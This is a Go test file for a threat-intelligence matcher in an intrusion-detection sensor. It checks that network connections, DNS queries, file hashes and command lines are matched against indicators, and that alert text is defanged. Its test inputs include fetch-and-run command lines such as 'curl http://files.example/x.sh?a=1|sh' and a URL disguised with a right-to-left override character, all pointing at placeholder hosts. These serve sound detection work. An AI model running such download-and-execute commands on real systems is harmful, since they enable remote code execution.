package intel

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/tocsin-ir/tocsin/sensor/event"
)

var watched = []Indicator{
	{Type: IP, Value: "198.51.100.7", Source: "cert", Why: "beacon of evil.example", Confidence: 90},
	{Type: CIDR, Value: "203.0.113.0/24", Source: "cert", Confidence: 40},
	{Type: IP, Value: "2001:db8::66", Source: "cert"},
	{Type: Domain, Value: "evil.example", Source: "cert", Confidence: 70},
	{Type: Domain, Value: "only.example", Exact: true, Source: "cert"},
	{Type: URL, Value: "http://files.example/x.sh?a=1", Source: "cert"},
	{Type: URL, Value: "http://198.51.100.7:8080/stage2", Source: "cert"},
	{Type: SHA256, Value: strings.Repeat("ab", 32), Source: "cert", Why: "miner"},
	{Type: MD5, Value: strings.Repeat("cd", 16), Source: "cert"},
	{Type: Domain, Value: "gone.example", Source: "cert", Expires: noon},
}

func connect(kind event.Kind, remote string) event.Event {
	return event.Event{Kind: kind, Host: "web-3", Process: event.Process{Exe: "/usr/bin/curl"}, Net: &event.NetOf{Proto: "tcp", Remote: netip.MustParseAddrPort(remote)}}
}

func started(args ...string) event.Event {
	return event.Event{Kind: event.Exec, Host: "web-3", Process: event.Process{Exe: "/usr/bin/curl", Args: args}, Exec: &event.ExecOf{}}
}

func TestWhatHappenedIsHeldAgainstTheIndicators(t *testing.T) {
	s := build(t, watched)
	named := connect(event.Connect, "192.0.2.1:443")
	named.Net.Name = "cdn.Evil.example."
	hashed := started("x")
	hashed.Exec.SHA256, hashed.Exec.MD5 = strings.Repeat("AB", 32), strings.Repeat("cd", 16)
	for _, c := range []struct {
		what string
		e    event.Event
		hits string // part=value, in order
	}{
		{"a connection to a listed address", connect(event.Connect, "198.51.100.7:443"), "1=198.51.100.7"},
		{"the same, as IPv4 within IPv6", connect(event.Connect, "[::ffff:198.51.100.7]:443"), "1=198.51.100.7"},
		{"the same, through NAT64", connect(event.Connect, "[64:ff9b::c633:6407]:443"), "1=198.51.100.7"},
		{"a connection from a listed network", connect(event.Accept, "203.0.113.200:50000"), "1=203.0.113.0/24"},
		{"IPv6", connect(event.Connect, "[2001:db8::66]:22"), "1=2001:db8::66"},
		{"a neighbour of it", connect(event.Connect, "[2001:db8::67]:22"), ""},
		{"a bound port is no connection", connect(event.Bind, "198.51.100.7:443"), ""},
		{"a connection to a listed name", named, "2=evil.example"},
		{"a question below a listed name", event.Event{Kind: event.DNS, DNS: &event.DNSOf{Name: "a.b.evil.example"}}, "3=evil.example"},
		{"a question for a name listed alone", event.Event{Kind: event.DNS, DNS: &event.DNSOf{Name: "only.example"}}, "3=only.example"},
		{"a question below it", event.Event{Kind: event.DNS, DNS: &event.DNSOf{Name: "x.only.example"}}, ""},
		{"a name that only ends alike", event.Event{Kind: event.DNS, DNS: &event.DNSOf{Name: "notevil.example"}}, ""},
		{"a name whose indicator expires now", event.Event{Kind: event.DNS, DNS: &event.DNSOf{Name: "gone.example"}}, ""},
		{"a name that is none", event.Event{Kind: event.DNS, DNS: &event.DNSOf{Name: strings.Repeat("a.", 400)}}, ""},
		{"an answer", event.Event{Kind: event.DNS, DNS: &event.DNSOf{Name: "x.example", Answer: true, Aliases: []string{"y.evil.example"},
			Addrs: []netip.Addr{netip.MustParseAddr("192.0.2.1"), netip.MustParseAddr("198.51.100.7")}}}, "4=evil.example 5=198.51.100.7"},
		{"a listed program", hashed, "6=" + strings.Repeat("ab", 32) + " 6=" + strings.Repeat("cd", 16)},
		{"a URL", started("curl", "-o", "/tmp/x", "http://files.example/x.sh?a=1"), "7=http://files.example/x.sh?a=1"},
		{"the same, disguised", started("curl", "hTTp://u:p@FILES.example:80/%78.sh?a=1#x"), "7=http://files.example/x.sh?a=1"},
		{"in a shell's line", started("sh", "-c", "curl http://files.example/x.sh?a=1;id"), "7=http://files.example/x.sh?a=1"},
		{"in quotes", started("sh", "-c", `curl "http://files.example/x.sh?a=1"|sh`), "7=http://files.example/x.sh?a=1"},
		{"with a pipe behind it", started("sh", "-c", "curl http://files.example/x.sh?a=1|sh"), "7=http://files.example/x.sh?a=1"},
		{"another URL of a listed host", started("curl", "https://www.evil.example/other"), "8=evil.example"},
		{"a listed host and no path", started("sh", "-c", "curl http://evil.example;id"), "8=evil.example"},
		{"a URL of an address", started("curl", "http://198.51.100.7:8080/stage2"), "7=http://198.51.100.7:8080/stage2 8=198.51.100.7"},
		{"IPv6 in a URL", started("curl", "http://[2001:db8::66]/"), "8=2001:db8::66"},
		{"a proxy after an equals sign", started("curl", "--proxy=http://evil.example:3128"), "8=evil.example"},
		{"nothing", started("ls", "-la", "://", "a://", "http://"), ""},
		{"no kind", event.Event{}, ""},
		{"a kind without its part", event.Event{Kind: event.Connect}, ""},
	} {
		var got []string
		for _, h := range s.Match(nil, &c.e, noon) {
			got = append(got, string(rune('0'+h.Part))+"="+h.Indicator().Value)
			if h.Reason(&c.e) == "" {
				t.Error("a hit without a reason")
			}
		}
		if g := strings.Join(got, " "); g != c.hits {
			t.Errorf("%s: %q, want %q", c.what, g, c.hits)
		}
	}
}

func TestAReasonIsASentenceThatCannotBeClicked(t *testing.T) {
	s := build(t, watched)
	for _, c := range []struct {
		e    event.Event
		want string
	}{
		{connect(event.Connect, "198.51.100.7:443"), "curl on web-3 connected to 198[.]51[.]100[.]7; cert lists ip 198[.]51[.]100[.]7 as beacon of evil[.]example (confidence 90)"},
		{connect(event.Accept, "203.0.113.5:443"), "curl on web-3 took a connection from 203[.]0[.]113[.]5; cert lists cidr 203[.]0[.]113[.]0/24 (confidence 40)"},
		{started("curl", "http://www.evil.example/\u202egpj.exe"), "curl on web-3 was started with hxxp://www[.]evil[.]example/ gpj[.]exe; cert lists domain evil[.]example and all below it (confidence 70)"},
	} {
		hits := s.Match(nil, &c.e, noon)
		if len(hits) != 1 {
			t.Errorf("%d hits", len(hits))
			continue
		}
		if got := hits[0].Reason(&c.e); got != c.want {
			t.Errorf("\n got %s\nwant %s", got, c.want)
		}
	}
}

func TestMatchingAllocatesNothing(t *testing.T) {
	s := build(t, watched)
	events := []event.Event{connect(event.Connect, "198.51.100.7:443"), started("sh", "-c", "curl http://files.example/x.sh?a=1|sh"),
		{Kind: event.DNS, DNS: &event.DNSOf{Name: "a.b.evil.example", Addrs: []netip.Addr{netip.MustParseAddr("2001:db8::66")}}}}
	into := make([]Hit, 0, 16)
	if n := testing.AllocsPerRun(100, func() {
		into = into[:0]
		for i := range events {
			into = s.Match(into, &events[i], noon)
		}
	}); n != 0 || len(into) != 4 {
		t.Errorf("%v allocations, %d hits; want 0 and 4", n, len(into))
	}
}

// A command line of nothing but URLs costs a bounded number of looks.
func TestAnArgumentFullOfURLsEnds(t *testing.T) {
	s := build(t, watched)
	e := started(strings.Repeat("http://evil.example/;;;;;;;; ", 10_000))
	if hits := s.Match(nil, &e, noon); len(hits) > maxArgs || len(hits) == 0 {
		t.Errorf("%d hits", len(hits))
	}
}
